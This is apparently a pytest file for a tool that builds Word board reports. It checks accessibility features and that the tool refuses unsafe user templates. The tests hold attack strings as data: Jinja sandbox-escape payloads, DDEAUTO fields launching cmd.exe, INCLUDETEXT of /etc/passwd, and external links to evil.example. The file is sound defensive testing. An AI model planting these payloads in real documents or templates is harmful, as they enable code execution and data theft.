"""The Word file: real headings, header rows and alternative texts, and restyled in Word itself."""

import subprocess
import sys
from io import BytesIO
from pathlib import Path
from zipfile import ZipFile

import pytest
from docx import Document
from docx.document import Document as DocxDocument
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from builders import Q2, Jtai, plan_values, return_values, written
from hostile import HOSTILE, filled_in
from places import EXAMPLE, ROOT

pytestmark = pytest.mark.once

REPORT = EXAMPLE / "reports/2022-23-Q1/board-report.docx"
ATTACHED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
TEMPLATE = ROOT / "templates/board-report.docx"


def test_it_has_headings_header_rows_alternative_texts_and_a_language() -> None:
    word = Document(str(REPORT))
    levels = [str(each.style.name) for each in word.paragraphs if each.style and "Heading" in str(each.style.name)]
    assert levels[0] == "Heading 1"
    assert {"Heading 1", "Heading 2", "Heading 3"} == set(levels)
    assert word.paragraphs[0].style is not None
    assert word.paragraphs[0].style.name == "Title"
    assert len(word.tables) >= 6
    for table in word.tables:
        assert table.rows[0]._tr.trPr is not None
        assert table.rows[0]._tr.trPr.find(qn("w:tblHeader")) is not None
        assert all(cell.text.strip() for cell in table.rows[0].cells)
    pictures = [shape._inline.docPr for shape in word.inline_shapes]
    assert len(pictures) == 3
    assert all("as expected" in str(each.get("descr")) for each in pictures)
    about = word.core_properties
    assert about.title.startswith("Exampleshire multi-agency exploitation plan: progress report")
    assert about.language == "en-GB"
    assert {each.get(qn("w:val")) for each in word.styles.element.iter(qn("w:lang"))} == {"en-GB"}


def test_the_marking_stands_in_the_header() -> None:
    assert Document(str(REPORT)).sections[0].header.paragraphs[0].text.startswith("EXAMPLE: every name")


@pytest.mark.needs("soffice", "pdftotext")
def test_libreoffice_opens_it(tmp_path: Path) -> None:
    command = ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile"]
    command += ["--convert-to", "pdf", "--outdir", str(tmp_path), str(REPORT)]
    ran = subprocess.run(command, check=True, capture_output=True, text=True)
    assert "Error" not in ran.stderr
    shown = subprocess.run(["pdftotext", str(tmp_path / "board-report.pdf"), "-"], check=True, capture_output=True)
    for words in (
        "Agencies’ additional actions".encode(),
        b"Behind, worst first (9)",
        b"Every action",
        b"EXAMPLE: every name, rating",
    ):
        assert words in shown.stdout


def test_the_packaged_templates_are_what_their_script_makes(tmp_path: Path) -> None:
    script = (
        (ROOT / "tools/word_templates.py")
        .read_text()
        .replace('TEMPLATES = Path(__file__).parents[1] / "templates"', f"TEMPLATES = Path({str(tmp_path)!r})")
    )
    subprocess.run([sys.executable, "-c", script.replace("__file__", "'.'")], check=True)
    for name in ("plan.docx", "board-report.docx"):
        assert (tmp_path / name).read_bytes() == (ROOT / "templates" / name).read_bytes(), "tools/word_templates.py"


@pytest.mark.parametrize("typed", HOSTILE.values(), ids=HOSTILE.keys())
@pytest.mark.parametrize("edition", ["plan", "board"])
def test_text_that_people_typed_comes_out_as_text(tmp_path: Path, jtai: Jtai, typed: str, edition: str) -> None:
    made = {}
    for name, each in (("harmless", "Harmless"), ("hostile", typed)):
        plan, returned, record, agency = filled_in(each)
        root = written(tmp_path / name, plan, {("police", Q2): returned}, {Q2: record}, {"police": agency})
        assert jtai("report", "--plan", str(root), "--edition", edition, "--format", "docx").status == 0
        (file,) = (root / "reports").rglob("*.docx")
        made[name] = Document(str(file))
    texts = {name: [each.text for each in word.paragraphs] for name, word in made.items()}
    # The two are made from different files, and the last line says so.
    assert all(several.pop().startswith("Inputs: sha256:") for several in texts.values())
    as_typed = " ".join(typed.split())
    expected = [
        " ".join(each.replace("Harmless", as_typed).replace("harmless", as_typed.lower()).split())
        for each in texts["harmless"]
    ]
    assert [" ".join(each.split()) for each in texts["hostile"]] == expected


@pytest.fixture
def plan(tmp_path: Path) -> Path:
    root = written(tmp_path, plan_values(), {("police", Q2): return_values(Q2, {("T1.1", "process"): "red"})})
    (root / "templates").mkdir()
    return root


def own(plan: Path, words: str) -> None:
    word = Document()
    word.add_paragraph(words)
    word.save(str(plan / "templates/board-report.docx"))


def test_a_partnerships_own_template_takes_the_place_of_the_packaged_one(plan: Path, jtai: Jtai) -> None:
    own(plan, "Ours: {{ report.period }}")
    assert jtai("report", "--format", "docx").status == 0
    assert Document(str(plan / f"reports/{Q2}/board-report.docx")).paragraphs[0].text == "Ours: Q2 2018/19"


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (
            "{{ report.perod }}",
            "has no attribute 'perod'. docs/templates.md lists what a template gets, and what has changed.",
        ),
        ("{% if report %}", "Unexpected end of template."),
        ("{{ report.__class__.__mro__ }}", "A template may only lay out what it is given."),
    ],
)
def test_a_broken_template_gets_one_sentence_and_nothing_is_written(
    plan: Path, jtai: Jtai, words: str, said: str
) -> None:
    own(plan, words)
    ran = jtai("report", "--format", "md,docx")
    assert ran.status == 1
    assert ran.err.splitlines()[-1].startswith("jtai: templates/board-report.docx: ")
    assert said in ran.err
    assert not (plan / "reports").exists()


def test_a_file_that_is_no_word_file(plan: Path, jtai: Jtai) -> None:
    (plan / "templates/board-report.docx").write_bytes(b"PK not a zip")
    ran = jtai("report", "--format", "docx")
    assert (ran.status, ran.err.count("\n")) == (1, 2)
    assert "jtai: templates/board-report.docx: " in ran.err


def test_a_template_that_would_fetch_something_is_refused(plan: Path, jtai: Jtai) -> None:
    word = Document(str(TEMPLATE))
    word.part.rels.get_or_add_ext_rel(ATTACHED, "https://evil.example/a.dotm")
    word.save(str(plan / "templates/board-report.docx"))
    ran = jtai("report", "--format", "docx")
    assert (ran.status, "it would fetch https://evil.example/a.dotm" in ran.err) == (1, True)


@pytest.mark.parametrize(
    "words",
    [
        "{{ charts[0][1].tpl.save('stolen.docx') }}",
        "{{ charts[0][1]._image.tpl.save('stolen.docx') }}",
        "{{ charts[0][1].write_xml('stolen.docx') }}",
        "{{ charts[0][1].docx.part.relate_to('https://evil.example', 'x', is_external=True) }}",
        "{{ '{0._image.tpl}'.format(charts[0][1]) }}",
        "{{ charts[0][1] | attr('_image') }}",
        "{{ (charts | map(attribute='1') | map(attribute='_image') | list)[0].tpl.save('stolen.docx') }}",
        "{{ self.__init__.__globals__ }}",
    ],
)
def test_a_template_gets_nothing_that_can_do_anything(plan: Path, jtai: Jtai, words: str) -> None:
    before = {file for file in plan.rglob("*") if file.is_file()}
    own(plan, words)
    ran = jtai("report", "--format", "docx")
    assert (ran.status, ran.err.splitlines()[-1].startswith("jtai: templates/board-report.docx: ")) == (1, True)
    assert not list(plan.rglob("stolen*"))
    assert {file for file in plan.rglob("*") if file.is_file()} - before <= {plan / "templates/board-report.docx"}


def with_field(*instructions: str, simple: bool = False) -> DocxDocument:
    """A document with a field whose instruction is spelt by *instructions*, a run each."""
    word = Document()
    paragraph = word.add_paragraph("One ")
    if simple:
        field = OxmlElement("w:fldSimple")
        field.set(qn("w:instr"), "".join(instructions))
        paragraph._p.append(field)
        return word

    def add(tag: str, kind: str | None = None, text: str | None = None) -> None:
        element = OxmlElement(tag)
        element.text = text
        if kind:
            element.set(qn("w:fldCharType"), kind)
        paragraph.add_run()._r.append(element)

    add("w:fldChar", "begin")
    for each in instructions:
        add("w:instrText", text=each)
    add("w:fldChar", "separate")
    add("w:fldChar", "end")
    return word


@pytest.mark.parametrize("simple", [False, True])
@pytest.mark.parametrize(
    ("instructions", "named"),
    [
        ((' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ',), "DDEAUTO"),
        ((" DDE", "AUTO x y"), "DDEAUTO"),
        ((' INCLUDETEXT "/etc/passwd" ',), "INCLUDETEXT"),
        ((' includepicture "https://evil.example/a.png" ',), "includepicture"),
        ((' LINK Excel.Sheet.8 "a.xlsx" ',), "LINK"),
        ((" MACROBUTTON x y ",), "MACROBUTTON"),
        ((" PAGE ",), None),
        ((" NUM", "PAGES  \\* MERGEFORMAT"), None),
        ((' TOC \\o "1-3" ',), None),
    ],
)
def test_a_field_that_fetches_or_runs_is_refused(
    plan: Path, jtai: Jtai, instructions: tuple[str, ...], named: str | None, simple: bool
) -> None:
    with_field(*instructions, simple=simple).save(str(plan / "templates/board-report.docx"))
    ran = jtai("report", "--format", "docx")
    assert ran.status == (0 if named is None else 1)
    assert (f"templates/board-report.docx: it holds a field {named}." in ran.err) is (named is not None)


@pytest.mark.parametrize("kind", ["aFChunk", "oleObject", "subDocument", "attachedTemplate", "frame"])
def test_what_is_embedded_is_refused(plan: Path, jtai: Jtai, kind: str) -> None:
    word = Document(str(TEMPLATE))
    part = Part(PackURI("/word/embedded.bin"), "application/octet-stream", b"x", word.part.package)
    word.part.relate_to(part, f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}")
    word.save(str(plan / "templates/board-report.docx"))
    ran = jtai("report", "--format", "docx")
    assert (ran.status, f"it holds what runs or is embedded ({kind})" in ran.err) == (1, True)


def test_what_a_template_writes_as_text_is_no_field(plan: Path, jtai: Jtai) -> None:
    own(plan, "{{ '<w:instrText>DDEAUTO x</w:instrText>' }}")
    assert jtai("report", "--format", "docx").status == 0
    text = Document(str(plan / f"reports/{Q2}/board-report.docx")).paragraphs[0].text
    assert text == "<w:instrText>DDEAUTO x</w:instrText>"


def test_what_a_template_marks_as_safe_is_looked_at_after_rendering(plan: Path, jtai: Jtai) -> None:
    field = "</w:t></w:r><w:r><w:instrText>DDEAUTO x</w:instrText></w:r><w:r><w:t>"
    own(plan, "{{ '" + field + "' | safe }}")
    ran = jtai("report", "--format", "docx")
    assert (ran.status, "it holds a field DDEAUTO" in ran.err) == (1, True)


def test_nothing_in_the_file_tells_when_or_by_whom_it_was_made() -> None:
    with ZipFile(BytesIO(REPORT.read_bytes())) as whole:
        assert {each.date_time for each in whole.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert b"python-docx" not in whole.read("docProps/core.xml")
